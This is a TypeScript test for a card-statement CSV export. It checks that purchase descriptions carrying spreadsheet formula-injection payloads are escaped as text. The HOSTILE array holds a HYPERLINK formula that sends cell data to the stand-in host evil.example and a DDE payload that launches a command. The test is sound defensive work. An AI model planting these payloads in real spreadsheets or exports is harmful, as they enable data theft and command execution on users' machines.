import { addDays, businessToday, formatApiDate, startOfBusinessDay } from '@balcao/domain/dates';
import { formatAmount } from '@balcao/domain/money';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testFileClockStart } from '../../test-clock';
import { ADMIN, createTestSandbox, jsonBody, type SandboxOutbox, type TestSandbox } from '../../test-support';
import { parseCsv } from '../shared/csv-parse';

let s: TestSandbox;
// Noon two days after the run's clock starts: a day the seed bought nothing on, so the statement holds
// only this test's purchases, whatever instant the run starts at (test-clock.ts).
const DAY = addDays(businessToday(testFileClockStart()), 2);
const NOW = new Date(startOfBusinessDay(DAY).getTime() + 12 * 3_600_000);

beforeAll(async () => {
  s = await createTestSandbox();
  await s.clock.set(NOW, { frozen: true });
});
afterAll(() => s?.close());

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1;"Reembolso")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
];

describe("'Extrair extrato' of a card", () => {
  it('mails a CSV in the house format whose purchases’ descriptions stay text', async () => {
    const [card] = await s.db.query<{ id: string }>(
      `SELECT c.id FROM cards c JOIN users u ON u.seller_id = c.seller_id AND u.email = $1
        WHERE c.status = 'ACTIVE' ORDER BY c.id LIMIT 1`,
      [ADMIN],
    );
    for (const description of HOSTILE) {
      const bought = await s.call({
        method: 'POST',
        url: `/_sandbox/cards/${card!.id}/purchases`,
        payload: { amount: 1234.56, description },
      });
      expect(bought.status).toBe(201);
    }
    const banking = (await s.clients(ADMIN)).banking;
    const sent = await banking.POST('/v1/banking/card/transactions', {
      body: { cardId: card!.id, startDate: DAY, endDate: DAY },
    });
    expect(sent.response.status).toBe(202);
    // The sandbox's purchases and outbox are no contract operations: raw calls.
    const outbox = await s.call({ method: 'GET', url: `/_sandbox/outbox?format=json&to=${ADMIN}` });
    const file = jsonBody<SandboxOutbox>(outbox).emails[0]!.attachments[0]!;
    expect(file.contentType).toBe('text/csv; charset=utf-8');
    const bytes = (await s.app.inject({ method: 'GET', url: new URL(file.url).pathname })).rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['Data', 'Descrição', 'Valor (R$)', 'Situação', 'Fatura']);
    expect(rows.map((r) => r[1]).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
    for (const row of rows) {
      expect(row[0]).toBe(`${formatApiDate(DAY)} 12:00`);
      expect(row[2]).toBe(formatAmount(123456));
    }
  });
});
